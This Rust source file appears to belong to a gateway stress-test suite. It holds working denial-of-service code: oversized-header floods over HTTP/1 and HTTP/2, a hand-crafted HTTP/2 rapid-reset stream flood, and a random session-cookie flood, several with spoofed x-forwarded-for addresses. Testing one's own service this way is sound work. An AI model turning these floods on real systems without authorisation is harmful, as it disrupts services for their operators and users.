//! Cheap floods: headers, reset streams, unknown session cookies.

use std::time::Duration;

use anyhow::Result;
use reqwest::Client;
use reqwest::header::{COOKIE, HeaderMap, HeaderName, HeaderValue};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::time::{sleep, sleep_until};

use super::attack::{self, Target, attacker_address};
use super::slow_clients::connect;
use super::{CaseResult, Stage};
use crate::survive::load::at_rate;

const CONNECTIONS: usize = 32;
const COOKIES: f64 = 2000.0;
const ADDRESSES: usize = 200;
/// Streams opened and reset per write.
const BATCH: u32 = 100;
/// Pause before reconnecting.
const PAUSE: Duration = Duration::from_millis(100);

/// Requests with the maximum number of headers, and with more.
pub async fn headers(stage: &mut Stage) -> Result<CaseResult> {
    let connections = stage.or_short(CONNECTIONS, 4);
    attack::run(stage, async move |target: Target| {
        let by_http1 = attack::repeat(&target, connections, PAUSE, http1_headers);
        let by_http2 = attack::repeat(&target, connections, PAUSE, http2_headers);
        tokio::join!(by_http1, by_http2);
    })
    .await
}

/// `count` headers of one kilobyte each.
fn kilobytes(count: usize) -> HeaderMap {
    let value = HeaderValue::from_str(&"x".repeat(1000)).expect("a header");
    let headers = (0..count).map(|number| {
        let name = format!("x-flood-{number}").parse::<HeaderName>();
        (name.expect("a name"), value.clone())
    });
    headers.collect()
}

async fn http1_headers(target: Target, number: usize) -> Result<()> {
    let client = Client::builder().no_proxy().build()?;
    let url = format!("{}/api/plans", target.origin(number));
    for kilobyte in [15, 30, 60].into_iter().cycle() {
        if target.is_over() {
            break;
        }
        let call = client.get(&url).headers(kilobytes(kilobyte));
        let call = call.header("x-forwarded-for", attacker_address(number));
        match call.send().await {
            Ok(answer) => target.observed(format!("{} for {kilobyte} kB", answer.status())),
            Err(_) => target.observed(format!("connection closed for {kilobyte} kB")),
        }
    }
    Ok(())
}

async fn http2_headers(target: Target, number: usize) -> Result<()> {
    let client = connect(&target, number, 65_535).await?;
    while !target.is_over() {
        let mut client = client.clone().ready().await?;
        let mut request = http::Request::get(format!("{}/api/plans", target.origin(number)));
        if let Some(headers) = request.headers_mut() {
            headers.extend(kilobytes(30));
        }
        let (answer, _) = client.send_request(request.body(())?, true)?;
        target.observed(format!("{} over HTTP/2", answer.await?.status()));
    }
    Ok(())
}

pub async fn resets(stage: &mut Stage) -> Result<CaseResult> {
    let connections = stage.or_short(CONNECTIONS, 2);
    attack::run_clients(stage, connections, PAUSE, rapid_resets).await
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default();
    let ([_, length @ ..], stream) = (length.to_be_bytes(), stream.to_be_bytes());
    [&length[..], &[kind, flags], &stream, payload].concat()
}

/// Opens and resets streams until the gateway closes.
async fn rapid_resets(target: Target, number: usize) -> Result<()> {
    const SETTINGS: u8 = 4;
    const HEADERS: u8 = 1;
    const RESET: u8 = 3;
    const CANCEL: u32 = 8;
    // END_STREAM and END_HEADERS.
    const WHOLE: u8 = 5;
    let path = b"/api/equipment";
    // GET, http, and a path and authority that are not indexed.
    let mut request = vec![0x82, 0x86, 0x04, u8::try_from(path.len())?];
    request.extend_from_slice(path);
    request.extend_from_slice(&[0x01, 9]);
    request.extend_from_slice(b"localhost");
    let mut socket = target.connect(number).await?;
    let begin = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    let settings = [frame(SETTINGS, 0, 0, &[]), frame(SETTINGS, 1, 0, &[])].concat();
    socket.write_all(&[begin, &settings[..]].concat()).await?;
    let (mut read, mut write) = socket.into_split();
    let reading = tokio::spawn(async move {
        let mut answer = vec![0; 1 << 16];
        while matches!(read.read(&mut answer).await, Ok(1..)) {}
    });
    let mut batches: u32 = 0;
    while !target.is_over() && !reading.is_finished() {
        let mut bytes = Vec::new();
        for place in 0..BATCH {
            let stream = 2 * (batches * BATCH + place) + 1;
            bytes.extend(frame(HEADERS, WHOLE, stream, &request));
            bytes.extend(frame(RESET, 0, stream, &CANCEL.to_be_bytes()));
        }
        if write.write_all(&bytes).await.is_err() {
            break;
        }
        batches += 1;
    }
    reading.abort();
    let most = batches.next_power_of_two();
    target.observed(format!("connection closed after {most} batches at most"));
    sleep(PAUSE).await;
    Ok(())
}

pub async fn cookies(stage: &mut Stage) -> Result<CaseResult> {
    let per_second = stage.or_short(COOKIES, 50.0);
    let mut rng = stage.rng.fork();
    let client = Client::builder().no_proxy();
    let client = client.timeout(Duration::from_secs(10)).build()?;
    attack::run(stage, async move |target: Target| {
        let over = sleep_until(target.end);
        let mut number = 0;
        let send = move |_| {
            let token: String = (0..43).map(|_| rng.alphanumeric()).collect();
            let call = client
                .get(format!("{}/api/auth/user", target.origin(number)))
                .header("x-forwarded-for", attacker_address(number % ADDRESSES))
                .header(COOKIE, format!("sid={token}"));
            number += 1;
            let target = target.clone();
            async move {
                match call.send().await {
                    Ok(answer) => target.observed(answer.status().as_str()),
                    Err(_) => target.observed("no answer"),
                }
            }
        };
        at_rate(per_second, over, send).await;
    })
    .await
}
